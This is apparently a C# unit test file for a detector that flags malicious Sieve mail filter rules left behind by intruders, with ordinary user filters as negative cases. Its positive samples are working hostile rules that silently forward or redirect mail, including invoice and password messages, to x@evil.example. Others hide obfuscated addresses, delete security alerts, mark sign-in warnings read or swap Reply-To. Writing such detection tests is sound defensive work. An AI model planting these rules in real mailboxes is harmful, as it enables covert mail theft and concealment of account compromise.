using Serjeant.Mail.Forwarding;
using Shouldly;

namespace Serjeant.Engines.Tests.Mail.Forwarding;

/// <summary>Rules that somebody who broke in leaves behind, and rules that people make for themselves.</summary>
public sealed class HiddenRulesTests
{
    // Made by hand after MITRE ATT&CK T1114.003 and T1564.008, and after what reports of broken mailboxes describe.
    [Theory]
    [InlineData(RuleHarm.Redirect, "redirect \"x@evil.example\";")]
    [InlineData(RuleHarm.Forward, "require \"copy\"; redirect :copy \"x@evil.example\";")]
    [InlineData(RuleHarm.Forward, "redirect \"x@evil.example\"; keep;")]
    [InlineData(RuleHarm.Redirect, "if header :contains \"subject\" [\"invoice\", \"payment\", \"password\"] { redirect \"x@evil.example\"; stop; }")]
    [InlineData(RuleHarm.Forward, "require [\"copy\",\"variables\"]; set \"a\" \"x@evil\"; set \"b\" \"${a}.example\"; redirect :copy \"${b}\";")]
    [InlineData(RuleHarm.Forward, "require [\"copy\",\"encoded-character\"]; redirect :copy \"x${hex:40}evil.example\";")]
    [InlineData(RuleHarm.Forward, "require \"copy\";\nif not header :contains \"from\" \"nobody\" {\n  if true { redirect :copy text:\nx@evil.example\n.\n; }\n}")]
    [InlineData(RuleHarm.Forward, "require \"enotify\"; notify :message \"new\" \"mailto:x@evil.example\";")]
    [InlineData(RuleHarm.Forward, "require [\"vnd.dovecot.pipe\",\"copy\"]; pipe :copy \"send-on\" [\"x\"];")]
    [InlineData(RuleHarm.Forward, "require [\"copy\",\"fileinto\"]; if anyof (address :domain \"from\" \"bank.example\", size :over 1M) { fileinto \"Money\"; redirect :copy \"x@evil.example\"; }")]
    [InlineData(RuleHarm.Redirect, "if size :over 0 { redirect \"x@evil.example\"; }")]
    [InlineData(RuleHarm.Redirect, "if header :contains \"list-id\" \"news\" { redirect \"x@evil.example\"; }")]
    [InlineData(RuleHarm.Redirect, "if false { keep; } else { redirect \"x@evil.example\"; }")]
    [InlineData(RuleHarm.Redirect, "if exists \"x-a\" { keep; } elsif exists \"x-b\" { redirect \"x@evil.example\"; }")]
    [InlineData(RuleHarm.Delete, "discard;")]
    [InlineData(RuleHarm.Delete, "if header :contains \"subject\" \"security alert\" { discard; }")]
    [InlineData(RuleHarm.Delete, "require \"reject\"; if address :is \"from\" \"it@office.example\" { reject \"no such user\"; }")]
    [InlineData(RuleHarm.Delete, "require \"ereject\"; ereject \"550\";")]
    [InlineData(RuleHarm.Delete, "require \"fileinto\"; if header :contains \"from\" \"police\" { fileinto \"Trash\"; }")]
    [InlineData(RuleHarm.Delete, "require \"fileinto\"; if header :contains \"from\" \"police\" { fileinto \"INBOX.Deleted Items\"; }")]
    [InlineData(RuleHarm.Delete, "require [\"fileinto\",\"special-use\"]; fileinto :specialuse \"\\\\Trash\" \"INBOX\";")]
    [InlineData(RuleHarm.Delete, "require \"imap4flags\"; addflag \"\\\\Deleted\";")]
    [InlineData(RuleHarm.Delete, "if header :matches \"X-Spam-Status\" \"*\" { discard; }")]
    [InlineData(RuleHarm.Delete, "if header :matches \"X-Spam-Level\" \"*****\" { discard; }")]
    [InlineData(RuleHarm.Delete, "if header :contains \"X-Spam-Flag\" \"NO\" { discard; }")]
    [InlineData(RuleHarm.Delete, "require [\"spamtest\",\"relational\"]; if spamtest :value \"ge\" \"0\" { discard; }")]
    [InlineData(RuleHarm.Hide, "require \"imap4flags\"; if header :contains \"subject\" \"sign-in\" { setflag \"\\\\Seen\"; }")]
    [InlineData(RuleHarm.Hide, "require [\"imap4flags\",\"fileinto\"]; if address :contains \"from\" \"security\" { fileinto :flags \"\\\\Seen\" \"Money\"; }")]
    [InlineData(RuleHarm.Hide, "require \"imap4flags\"; keep :flags [\"\\\\Flagged\", \"\\\\seen\"];")]
    [InlineData(RuleHarm.Hide, "require [\"imap4flags\",\"variables\"]; set \"f\" \"\\\\Seen\"; addflag \"${f}\";")]
    [InlineData(RuleHarm.Hide, "require \"fileinto\"; if header :contains \"subject\" \"wire\" { fileinto \"Archive\"; stop; }")]
    [InlineData(RuleHarm.Hide, "require \"fileinto\"; if header :contains \"subject\" \"hacked\" { fileinto \"RSS Feeds\"; }")]
    [InlineData(RuleHarm.Hide, "require \"fileinto\"; if header :contains \"subject\" \"hacked\" { fileinto \"Conversation History\"; }")]
    [InlineData(RuleHarm.Hide, "require \"fileinto\"; if header :contains \"subject\" \"hacked\" { fileinto \"INBOX/..\"; }")]
    [InlineData(RuleHarm.Hide, "require \"fileinto\"; if header :contains \"subject\" \"hacked\" { fileinto \"a\"; }")]
    [InlineData(RuleHarm.Hide, "require \"fileinto\"; if anyof (header :contains \"list-id\" \"x\", header :contains \"from\" \"boss\") { fileinto \"Junk\"; }")]
    [InlineData(RuleHarm.Hide, "require \"editheader\"; deleteheader \"Reply-To\"; addheader \"Reply-To\" \"x@evil.example\";")]
    public void What_forwards_redirects_deletes_or_hides_is_found(RuleHarm harm, string script)
    {
        var found = Find(script);
        found.ShouldNotBeEmpty();
        found.ShouldContain(f => f.Harm == harm);
        found.ShouldAllBe(f => f.Steps.Count >= 2 && f.Words.EndsWith('.'));
    }

    // Made by hand after what Roundcube, SOGo, Dovecot's own examples and people's ordinary scripts hold.
    [Theory]
    [InlineData("")]
    [InlineData("# nothing but a comment\n/* redirect \"x@evil.example\"; */")]
    [InlineData("keep;")]
    [InlineData("require \"fileinto\"; if header :contains \"list-id\" \"dovecot.dovecot.org\" { fileinto \"Lists/Dovecot\"; stop; }")]
    [InlineData("require [\"fileinto\",\"imap4flags\"]; if header :contains \"list-id\" \"news\" { addflag \"\\\\Seen\"; fileinto \"Newsletters\"; }")]
    [InlineData("require \"fileinto\"; if exists \"list-unsubscribe\" { fileinto \"Archive/News\"; }")]
    [InlineData("require \"fileinto\"; if header :contains \"X-Spam-Flag\" \"YES\" { fileinto \"Junk\"; stop; }")]
    [InlineData("require \"fileinto\"; if header :matches \"X-Spam-Status\" \"Yes*\" { fileinto \"Junk\"; }")]
    [InlineData("if header :contains \"X-Spam-Level\" \"**********\" { discard; stop; }")]
    [InlineData("require [\"spamtest\",\"relational\",\"comparator-i;ascii-numeric\",\"fileinto\"]; if spamtest :value \"ge\" :comparator \"i;ascii-numeric\" \"5\" { fileinto \"Junk\"; }")]
    [InlineData("require \"vacation\"; vacation :days 7 :subject \"Away\" :addresses [\"jane@office.example\"] \"I am away. For urgent matters redirect to sam@office.example;\";")]
    [InlineData("require [\"vacation\",\"date\",\"relational\"]; if allof (currentdate :value \"ge\" \"date\" \"2026-08-01\", currentdate :value \"le\" \"date\" \"2026-08-15\") { vacation \"Back on the 16th\"; }")]
    [InlineData("require [\"fileinto\",\"mailbox\"]; if address :domain :is \"from\" \"parliament.uk\" { fileinto :create \"Parliament\"; }")]
    [InlineData("require \"fileinto\"; if allof (header :contains \"subject\" \"surgery\", not header :contains \"subject\" \"dentist\") { fileinto \"Casework\"; }")]
    [InlineData("require [\"fileinto\",\"imap4flags\"]; if address :is \"from\" \"whip@party.example\" { addflag \"\\\\Flagged\"; fileinto \"Whip\"; }")]
    [InlineData("require [\"fileinto\",\"envelope\",\"subaddress\"]; if envelope :detail \"to\" \"casework\" { fileinto \"Casework\"; }")]
    [InlineData("require \"fileinto\"; if size :over 10M { fileinto \"Large\"; }")]
    [InlineData("require \"fileinto\"; # rule:[Invoices]\nif anyof (header :contains \"subject\" \"invoice\", header :contains \"from\" \"billing\")\n{\n\tfileinto \"Accounts\";\n\tstop;\n}\n")]
    [InlineData("require [\"include\",\"fileinto\"]; include :global \"spam\"; if header :is \"x-a\" \"b\" { fileinto \"Bills\"; }")]
    [InlineData("require [\"variables\",\"fileinto\",\"mailbox\"]; if address :localpart :matches \"from\" \"*\" { set :lower \"name\" \"${1}\"; fileinto :create \"People/${name}\"; }")]
    [InlineData("require \"editheader\"; addheader \"X-Sorted\" \"yes\"; deleteheader \"X-Old\";")]
    [InlineData("require \"duplicate\"; if duplicate { keep; }")]
    [InlineData("require [\"environment\",\"fileinto\"]; if environment :is \"name\" \"Dovecot\" { fileinto \"INBOX\"; }")]
    public void What_people_make_for_themselves_is_left_alone(string script) => Find(script).ShouldBeEmpty();

    [Fact]
    public void A_rule_is_told_by_its_name_its_condition_and_whether_it_is_on()
    {
        var found = Find("require [\"copy\"];\n# rule:[.]\nif false # allof (header :contains \"subject\" \"x\")\n{\n redirect :copy \"x@evil.example\";\n}\nif anyof (header :contains [\"subject\",\"from\"] [\"invoice\",\"bank\"], not address :is \"from\" \"a@b.example\") { discard; }");
        found.Select(f => (f.Rule.Name, f.Rule.Active, f.Words)).ShouldBe([
            (".", false, "A message where nothing holds (it is switched off) is also sent to x@evil.example."),
            ("main, line 7", true, "A message where Subject or From contains “invoice” or “bank” or From is not “a@b.example” is deleted."),
        ]);
        Find("discard;", active: false).Single().Rule.Active.ShouldBeFalse();
    }

    [Fact]
    public void Scripts_that_include_others_are_followed_and_loops_end()
    {
        SieveSource[] all = [new("main", "require \"include\"; include :personal \"more\"; include \"main\"; include \"gone\";", true), new("more", "require \"include\"; redirect \"x@evil.example\"; include \"main\";", false)];
        var found = HiddenRules.Find(SieveScript.Rules(all[0], all));
        found.ShouldNotBeEmpty();
        found.ShouldAllBe(f => f.Harm == RuleHarm.Redirect && f.Rule.Active && f.Rule.Name == "more, line 1");
    }

    [Theory]
    [InlineData("redirect \"x@evil.example\"")]
    [InlineData("redirect \"x@evil.example")]
    [InlineData("if true { redirect \"x\";")]
    [InlineData("if (((")]
    [InlineData("/* open")]
    [InlineData("redirect text:\nno end")]
    [InlineData("]")]
    [InlineData("\0")]
    [InlineData(": ;")]
    [InlineData("require [\"a\" \"b\"];")]
    public void What_is_no_script_is_told_and_never_taken_for_harmless(string script) => Should.Throw<SieveException>(() => Find(script));

    [Fact]
    public void Hostile_scripts_are_bounded()
    {
        Should.Throw<SieveException>(() => Find(string.Concat(Enumerable.Repeat("if true {", 500))));
        Should.Throw<SieveException>(() => Find("if " + string.Concat(Enumerable.Repeat("not ", 500)) + "true { keep; }"));
        Should.Throw<SieveException>(() => Find(new string('#', 2_000_000)));
        Should.Throw<SieveException>(() => Find(string.Concat(Enumerable.Repeat("keep;", 60_000))));
        Should.Throw<SieveException>(() => Find(string.Concat(Enumerable.Repeat("if true { discard; }", 2_000))));
        SieveSource[] bomb = [.. Enumerable.Range(0, 20).Select(i => new SieveSource($"s{i}", $"include \"s{i + 1}\"; include \"s{i + 1}\";", true))];
        Should.Throw<SieveException>(() => SieveScript.Rules(bomb[0], bomb));
        var random = new Random(5);
        const string letters = "redirect\"\\ {};[]():#/*\nifkep,1M";
        for (var i = 0; i < 3_000; i++)
        {
            var script = new string([.. Enumerable.Range(0, random.Next(60)).Select(_ => letters[random.Next(letters.Length)])]);
            try
            {
                Find(script);
            }
            catch (SieveException)
            {
                // Told, not broken.
            }
        }
    }

    private static IReadOnlyList<HiddenRule> Find(string script, bool active = true)
    {
        var source = new SieveSource("main", script, active);
        return HiddenRules.Find(SieveScript.Rules(source, [source]));
    }
}
